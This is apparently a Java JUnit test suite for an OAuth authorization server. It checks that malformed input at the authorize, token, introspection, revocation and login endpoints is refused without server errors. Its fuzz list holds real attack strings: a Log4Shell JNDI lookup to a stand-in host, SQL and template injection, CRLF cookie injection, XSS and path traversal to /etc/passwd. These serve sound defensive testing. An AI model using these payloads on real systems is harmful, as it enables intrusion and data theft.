package dev.signet.auth.protocol;

import static dev.signet.auth.testing.AnswerAssert.assertThat;
import static dev.signet.auth.testing.Clients.aClient;
import static dev.signet.auth.testing.Clients.ordersApi;
import static org.assertj.core.api.Assertions.assertThat;

import dev.signet.auth.testing.Answer;
import dev.signet.auth.testing.Browser;
import dev.signet.auth.testing.OAuth;
import dev.signet.auth.testing.Parameters;
import dev.signet.auth.testing.RawHttp;
import dev.signet.auth.testing.RawHttp.RawAnswer;
import dev.signet.auth.testing.Seen;
import dev.signet.auth.testing.SignetTest;
import dev.signet.auth.testing.TestUser;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Input that no honest client sends: it is refused in the words of the protocol, and never breaks anything. */
@SignetTest
class MalformedInputTests {

    private final OAuth oauth;

    MalformedInputTests(OAuth oauth) {
        this.oauth = oauth;
    }

    /** Values that break naive code: too long, empty, control characters, half of a surrogate pair, other alphabets, markup. */
    static Stream<String> oddValues() {
        return Stream.of(
                "",
                " ",
                "\u0000",
                "a\u0000b",
                "a\r\nSet-Cookie: planted=1",
                "\uD83D",
                "💥".repeat(50),
                "ﬀ％０",
                "' or '1'='1",
                "${7*7}#{7*7}",
                "${jndi:ldap://evil.example/x}",
                "../../etc/passwd",
                "<script>alert(1)</script>",
                "x".repeat(5_000));
    }

    @Nested
    @DisplayName("RFC 6749 §4.1.2.1: malformed input at the authorization endpoint")
    class AtTheAuthorizationEndpoint {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "client_id",
                    "redirect_uri",
                    "response_type",
                    "scope",
                    "state",
                    "nonce",
                    "code_challenge",
                    "code_challenge_method",
                    "prompt",
                    "max_age",
                    "login_hint",
                    "ui_locales",
                    "display",
                    "claims",
                    "acr_values",
                    "id_token_hint",
                    "response_mode",
                    "resource",
                    "unheard_of"
                })
        void noOddValueOfAnyParameterBreaksIt(String parameter) {
            Browser browser = oauth.browser().login(TestUser.alice());

            oddValues().forEach(value -> {
                Answer answer = oauth.authorize(aClient())
                        .in(browser)
                        .with(parameter, value)
                        .send();
                assertThat(answer).isNoServerError();
                assertThat(answer.headers("Set-Cookie").toString()).doesNotContain("planted");
                assertStaysHereOrGoesToTheClient(answer);
            });
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "/oauth2/authorize",
                    "/oauth2/authorize?",
                    "/oauth2/authorize?=&=&&",
                    "/oauth2/authorize?client_id",
                    "/oauth2/authorize?client_id=%",
                    "/oauth2/authorize?client_id=%zz",
                    "/oauth2/authorize?client_id=%ff%fe",
                    "/oauth2/authorize?client_id[]=harbor",
                    "/oauth2/authorize?client_id=harbor;response_type=code",
                    "/oauth2/authorize/../token",
                    "/oauth2//authorize?client_id=harbor",
                    "/oauth2/authorize/?client_id=harbor",
                    "/oauth2/authorize;x=y?client_id=harbor",
                    "/consent",
                    "/consent?client_id=orchard&scope=openid&state=guessed",
                    "/oauth2/token",
                    "/oauth2/introspect",
                    "/oauth2/revoke",
                    "/connect/logout?id_token_hint=%",
                    "/login?failure=<script>",
                    "/setup",
                    "/setup?code=guessed"
                })
        void noOddAddressBreaksIt(String path) {
            RawAnswer answer = RawHttp.send(
                    oauth.uri("/"),
                    "",
                    "GET " + path + " HTTP/1.1",
                    "Host: " + oauth.uri("/").getAuthority(),
                    "Accept: text/html");

            assertThat(answer.status()).as(answer::text).isLessThan(500);
        }

        /** The container would repeat what it cannot decode in the log, which the guard against leaks reads. */
        @Test
        void hintThatCannotBeDecodedIsNowhereRepeated() {
            String hint = Seen.note("ID token", "sent-and-not-encoded-%zz");

            RawAnswer answer = RawHttp.send(
                    oauth.uri("/"),
                    "",
                    "GET /connect/logout?id_token_hint=" + hint + " HTTP/1.1",
                    "Host: " + oauth.uri("/").getAuthority());

            assertThat(answer.status()).as(answer::text).isEqualTo(400);
            assertThat(answer.text()).doesNotContain(hint);
        }

        @Test
        void formPostIsServedOrRefusedButNothingBreaks() {
            Browser browser = oauth.browser().login(TestUser.alice());
            Parameters request = Parameters.ofQuery(oauth.authorize(aClient()).uri());

            assertThat(browser.post("/oauth2/authorize", request)).isNoServerError();
            assertThat(browser.post("/oauth2/authorize", Parameters.NONE)).isNoServerError();
        }

        @Test
        void thousandsOfParametersAreRefused() {
            StringBuilder query = new StringBuilder("/oauth2/authorize?client_id=harbor");
            for (int i = 0; i < 1_500; i++) {
                query.append("&a=").append(i % 10);
            }

            Answer answer = oauth.browser().get(query.toString());

            assertThat(answer).isNoServerError();
        }

        private void assertStaysHereOrGoesToTheClient(Answer answer) {
            if (answer.isRedirect()) {
                assertThat(answer.location().toString())
                        .matches(to ->
                                to.startsWith(aClient().redirectUri() + "?") || to.startsWith(oauth.issuer() + "/"));
            }
        }
    }

    @Nested
    @DisplayName("RFC 6749 §5.2: malformed input at the other endpoints")
    class AtTheOtherEndpoints {

        @ParameterizedTest
        @MethodSource("dev.signet.auth.protocol.MalformedInputTests#oddValues")
        void noOddValueBreaksTheTokenEndpoint(String value) {
            for (String parameter : new String[] {
                "grant_type", "code", "redirect_uri", "code_verifier", "client_id", "scope", "resource"
            }) {
                Answer answer = oauth.token(aClient(), "authorization_code")
                        .with("code", "guessed")
                        .with("redirect_uri", aClient().redirectUri())
                        .with("code_verifier", "guessed")
                        .with(parameter, value)
                        .send();
                assertRefusedInTheWordsOfTheProtocol(answer);
            }
            assertRefusedInTheWordsOfTheProtocol(
                    oauth.refreshRequest(aClient(), value).send());
        }

        @ParameterizedTest
        @MethodSource("dev.signet.auth.protocol.MalformedInputTests#oddValues")
        void noOddTokenBreaksIntrospectionOrRevocation(String value) {
            assertThat(oauth.introspect(ordersApi(), value)).isNoServerError();
            assertThat(oauth.revoke(ordersApi(), value)).isNoServerError();
            assertThat(oauth.introspectionRequest(ordersApi(), "x")
                            .with("token_type_hint", value)
                            .send())
                    .isNoServerError();
        }

        @ParameterizedTest
        @MethodSource("dev.signet.auth.protocol.MalformedInputTests#oddValues")
        void noOddClientBreaksAuthentication(String value) {
            assertRefusedInTheWordsOfTheProtocol(
                    oauth.clientCredentials(aClient().withId(value)).answer());
            assertRefusedInTheWordsOfTheProtocol(
                    oauth.clientCredentials(aClient().withSecret(value)).answer());
        }

        @ParameterizedTest
        @ValueSource(strings = {"/oauth2/token", "/oauth2/introspect", "/oauth2/revoke", "/login", "/connect/logout"})
        void oversizedFormIsRefused(String path) {
            Answer answer =
                    oauth.post(path, "application/x-www-form-urlencoded", "grant_type=x&token=" + "x".repeat(100_000));

            assertThat(answer).isNoServerError();
            assertThat(answer.status()).isGreaterThanOrEqualTo(400);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "application/json",
                    "text/plain",
                    "text/xml",
                    "multipart/form-data; boundary=x",
                    "multipart/form-data",
                    "nonsense",
                    "application/x-www-form-urlencoded; charset=no-such-charset"
                })
        void noOddContentTypeBreaksIt(String contentType) {
            for (String path : new String[] {"/oauth2/token", "/oauth2/introspect", "/oauth2/revoke", "/login"}) {
                Answer answer = oauth.post(path, contentType, "{\"grant_type\":[[[[\"client_credentials\"]]]]}");
                assertThat(answer).isNoServerError();
                assertThat(answer.status()).as(path).isGreaterThanOrEqualTo(400);
            }
        }

        @ParameterizedTest
        @ValueSource(strings = {"%", "%zz=1", "grant_type=%", "grant_type=%ff%fe", "=", "&&&&", "grant_type"})
        void noOddEncodingBreaksIt(String body) {
            Answer answer = oauth.post("/oauth2/token", "application/x-www-form-urlencoded", body);

            assertThat(answer).isNoServerError();
            assertThat(answer.status()).isGreaterThanOrEqualTo(400);
        }

        @ParameterizedTest
        @MethodSource("dev.signet.auth.protocol.MalformedInputTests#oddValues")
        void noOddCredentialsBreakTheLogin(String value) {
            Browser browser = oauth.browser();
            var form = browser.get("/login").page().pressing("log-in");

            Answer answer = browser.submit(form.with("username", value).with("password", value));

            assertThat(answer).isNoServerError();
            assertThat(answer.locationOrNothing()).contains("/login");
        }

        private void assertRefusedInTheWordsOfTheProtocol(Answer answer) {
            assertThat(answer).isNoServerError();
            assertThat(answer.status()).as(answer::toString).isIn(400, 401);
            assertThat(answer.error()).as(answer::toString).isPresent();
        }
    }
}
